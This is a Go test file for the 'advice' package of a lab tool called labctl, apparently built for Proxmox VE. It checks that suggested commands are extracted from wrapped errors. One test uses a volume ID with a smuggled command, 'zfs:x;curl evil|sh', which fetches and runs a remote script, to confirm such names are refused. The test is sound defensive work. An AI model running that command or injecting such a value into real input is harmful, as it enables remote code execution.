package advice_test

import (
	"errors"
	"fmt"
	"io"
	"slices"
	"testing"

	"labctl/pkg/internal/advice"
	"labctl/pkg/internal/shell"
)

func TestAdviceIsFoundInAnyError(t *testing.T) {
	down, up := advice.Run("down"), advice.Run("up")
	leave := down.With(shell.New("--leave").VMID(9101))
	inner := advice.Errorf("it is gone: %w: run %s", io.EOF, leave)
	err := fmt.Errorf("two things: %w", errors.Join(inner, advice.Errorf("run %s and %s again", down, up)))

	if want := "two things: it is gone: EOF: run `labctl down --leave 9101`\nrun `labctl down` and `labctl up` again"; err.Error() != want {
		t.Errorf("text %q, want %q", err.Error(), want)
	}
	if got := advice.In(err); !slices.Equal(got, []advice.Labctl{leave, down, up}) {
		t.Errorf("advised %v", got)
	}
	if !errors.Is(err, io.EOF) {
		t.Error("the cause is lost")
	}
	if got := advice.In(nil); got != nil {
		t.Errorf("no error advises %v", got)
	}
	if leave.Verb() != "down" || leave.Rest() != "--leave 9101" || up.Rest() != "" {
		t.Errorf("parts of %v and %v", leave, up)
	}
}

// What Proxmox VE would not accept as a name is in no advised command either.
func TestOddNamesAreNotAdvised(t *testing.T) {
	odd := advice.Run("down").With(shell.New("--leave").Volume("zfs:x;curl evil|sh"))
	if got := odd.String(); got != "(no command for this: a volume ID that Proxmox VE does not accept)" {
		t.Error(got)
	}
}
